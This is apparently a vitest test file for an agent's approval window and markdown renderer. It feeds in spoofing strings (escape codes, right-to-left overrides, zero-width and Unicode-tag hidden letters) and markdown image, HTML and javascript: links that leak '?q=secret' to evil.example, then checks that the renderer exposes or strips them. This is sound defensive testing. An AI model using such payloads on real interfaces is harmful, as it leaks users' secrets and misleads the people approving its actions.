import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test, vi } from 'vitest';
import { visibleString, visibleText } from '../../../renderer/approvals/visible/visible-text.ts';

// of the scripted adversaries those whose defence is the window; the others are in test/unit/adversaries

test('15: an approval’s text cannot erase, turn round or hide what it says in the window [truthful approval]', () => {
  const shown = visibleString(
    'Send to ann\u001b[2K\u001b[1Gmallory \u202egpj.exe\u200b\rApproved by the owner',
  );
  expect(shown).toBe('Send to ann⟨ESC⟩[2K⟨ESC⟩[1Gmallory ⟨RLO⟩gpj.exe⟨ZWSP⟩⟨CR⟩Approved by the owner');
  const long = `${'padding '.repeat(10_000)}mallory@evil.example`;
  expect(visibleString(long)).toBe(long);
});

test('23: letters hidden in Unicode tags are named where somebody decides [hidden text]', () => {
  const hidden = [...'send'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
  const marks = visibleText(`Fine.${hidden}`).flatMap((piece) =>
    piece.kind === 'mark' ? [piece.label] : [],
  );
  expect(marks).toEqual(['TAG s', 'TAG e', 'TAG n', 'TAG d']);
});

test('24: a picture in an answer is never asked for, and a link shows its host [egress by markdown]', async () => {
  vi.stubGlobal('navigator', { platform: 'Linux', userAgent: 'test' });
  const { Markdown } = await import('../../../renderer/ui/markdown.tsx');
  const text = [
    '![x](https://evil.example/?q=secret)',
    '<img src="https://evil.example/?q=secret">',
    '<picture><source srcset="https://evil.example/?q=secret"></picture>',
    '[run](javascript:alert(1))',
  ].join('\n\n');
  expect(renderToStaticMarkup(createElement(Markdown, { text }))).not.toMatch(
    /evil\.example|<img|src|javascript:/,
  );
  const link = renderToStaticMarkup(
    createElement(Markdown, { text: '[the report](https://evil.example/?q=secret)' }),
  );
  expect(link).toContain('the report<span');
  vi.unstubAllGlobals();
});
